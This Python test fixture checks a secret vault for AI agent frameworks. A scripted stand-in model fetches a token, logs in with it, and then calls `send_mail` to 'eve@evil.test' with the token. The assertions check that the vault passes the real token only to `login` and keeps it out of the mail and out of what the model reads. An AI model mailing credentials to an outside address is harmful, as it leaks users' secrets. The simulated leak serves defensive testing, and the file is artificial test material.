"""A scripted task with secrets, for all frameworks: log in with a token that a tool gave, and be refused to mail it.

The user says a password, the instructions hold one more, a tool gives the token (`canary`): the model may read none of
them, in no call.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from canary import CANARY, PASSWORD, found_in
from integration.frameworks.task import Call, Script
from jettison.vault import Grant, Vault

PLACEHOLDER = re.compile(r"\{\{secret:github-token:\d\}\}")
SYSTEM = f"You log people in. The password is {PASSWORD}"
GOAL = f"Log me in at the shop, and mail me the token. My password is {PASSWORD}"
TOOLS: dict[str, tuple[str, dict[str, str]]] = {
    "get_token": ("Get the token of a service.", {"service": "string"}),
    "login": ("Log in with a token.", {"token": "string"}),
    "send_mail": ("Send a mail.", {"email": "string", "text": "string"}),
}


def vault() -> Vault:
    """Our own rules; the token may go to the tool `login`, and nowhere else."""
    return Vault(rule_sets=(), grants=[Grant("github-token", ["login", "shop-login"])])


def parameters(name: str) -> dict[str, Any]:
    """The JSON Schema of a tool's arguments."""
    fields = TOOLS[name][1]
    return {
        "type": "object",
        "properties": {key: {"type": kind} for key, kind in fields.items()},
        "required": list(fields),
        "additionalProperties": False,
    }


def openai_tools() -> list[dict[str, Any]]:
    """The tools as Chat Completions takes them."""
    return [
        {"type": "function", "function": {"name": name, "description": said, "parameters": parameters(name)}}
        for name, (said, _) in TOOLS.items()
    ]


@dataclass
class Desk:
    """What the tools work on."""

    token: str = CANARY
    logins: list[str] = field(default_factory=list)
    mails: list[str] = field(default_factory=list)

    def get_token(self, service: str) -> str:
        return f"The token of {service} is {self.token}"

    def login(self, token: str) -> str:
        self.logins.append(token)
        return f"Logged in with {token}"

    def send_mail(self, email: str, text: str) -> str:
        self.mails.append(text)
        return f"Sent to {email}: {text}"

    def run(self, name: str, arguments: dict[str, Any]) -> str:
        return str(getattr(self, name)(**arguments))


@dataclass
class LoggingIn(Script):
    """Calls with the placeholder that it reads; keeps what it read."""

    read: list[str] = field(default_factory=list)

    def next(self, seen: Sequence[str]) -> list[Call] | str:
        self._count(list(seen))
        self.read.append("\n".join(seen))
        self.step += 1
        if self.step == 1:
            return [Call("get_token", {"service": "shop"})]
        names = PLACEHOLDER.findall(self.read[-1])
        if self.step == 2 and names:
            mail = Call("send_mail", {"email": "eve@evil.test", "text": f"The token: {names[-1]}"})
            return [Call("login", {"token": f"Bearer {names[-1]}"}), mail]
        return "Done." if names else "There is no token."


def into(monkeypatch: Any, name: str) -> None:
    """Let the helpers of a test module play this task, not the one of 60 calls."""
    goals = {"en": GOAL, "ru": GOAL}
    given = {"TOOLS": TOOLS, "SYSTEM": SYSTEM, "GOALS": goals, "parameters": parameters, "openai_tools": openai_tools}
    for key, value in given.items():
        if hasattr(sys.modules[name], key):
            monkeypatch.setattr(sys.modules[name], key, value)


def check(script: LoggingIn, desk: Desk, *, mailed: bool = False, system: bool = True, hook: bool = True) -> None:
    """The tool got the token, the other one did not, and the model read why, and no secret. `mailed`: nothing stood
    between the model and the tools, so the other one ran with the placeholder. `hook`: what stands between the model
    and the tools fills calls; else all of them have placeholders."""
    assert len(script.read) == 3
    for text in script.read:
        assert not found_in(text)
        assert desk.token not in text
        assert text.count("{{secret:password:1}}") >= 1 + system
    assert desk.logins == [f"Bearer {desk.token if hook else '{{secret:github-token:1}}'}"]
    assert len(desk.mails) == (mailed or not hook)
    assert all(PLACEHOLDER.search(text) and desk.token not in text for text in desk.mails)
    assert "Logged in with Bearer {{secret:github-token:" in script.read[-1]
    assert not hook or re.search("was not put into the call of '(shop-)?send_mail'", script.read[-1])
